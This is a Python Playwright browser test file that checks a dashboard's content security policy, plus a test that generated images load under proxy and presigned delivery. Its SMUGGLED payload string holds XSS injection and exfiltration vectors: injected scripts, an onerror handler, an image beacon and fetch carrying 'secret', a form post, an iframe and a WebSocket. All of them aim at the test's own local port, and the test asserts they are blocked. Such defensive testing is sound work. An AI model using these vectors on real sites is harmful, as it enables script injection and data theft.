"""The content security policy: what a page may not do, even if somebody got a script into it."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import StartDashboard, Visit
from tests.browser.states import drafted, make
from tests.support.dashboards.dashboard import Dashboard, Tab
from tests.support.ports import own_port

SMUGGLED = """async (elsewhere) => {
  const violated = [];
  document.addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
  const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
  add("script", { textContent: "window.smuggled = true" });
  add("script", { src: `${elsewhere}/script.js` });
  add("img", { src: `${elsewhere}/picture.png?told=secret` });
  add("iframe", { src: elsewhere });
  add("div", { innerHTML: "<img src='/nothing' onerror='window.smuggled = true'>" });
  const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
  document.body.append(form);
  form.submit();
  await fetch(`${elsewhere}/told=secret`).catch(() => {});
  try { new WebSocket(elsewhere.replace("http", "ws")); } catch {}
  setTimeout("window.smuggled = true");
  await new Promise((wait) => setTimeout(wait, 500));
  return [[...new Set(violated)].sort(), window.smuggled ?? false];
}"""


def test_a_smuggled_script_neither_runs_nor_tells_anybody(studio: Dashboard, visit: Visit) -> None:
    visitor = visit(studio)
    tab = visitor.open("/history")
    violated, smuggled = tab.page.evaluate(SMUGGLED, f"http://127.0.0.1:{own_port()}")
    assert not smuggled
    assert violated == [
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
    ]
    assert visitor.complaints, "the browser says so, too"
    visitor.complaints.clear()


@pytest.mark.parametrize("delivery", ["proxy", "presigned"])
def test_originals_are_shown_wherever_they_come_from(
    delivery: str, start_dashboard: StartDashboard, visit: Visit
) -> None:
    """Straight from S3 they come from another origin, which the policy names."""
    studio = start_dashboard({"IMAGE_DELIVERY": delivery})
    tab = Tab(visit(studio).page(), studio.url)
    drafted(tab, "a red chair", tone="noir")
    make(tab)
    shown = tab.page.locator(".stage .pane img")
    expect(shown).to_have_count(2)
    for picture in shown.all():
        expect(picture).to_have_js_property("complete", True)
        expect(picture).not_to_have_js_property("naturalWidth", 0)
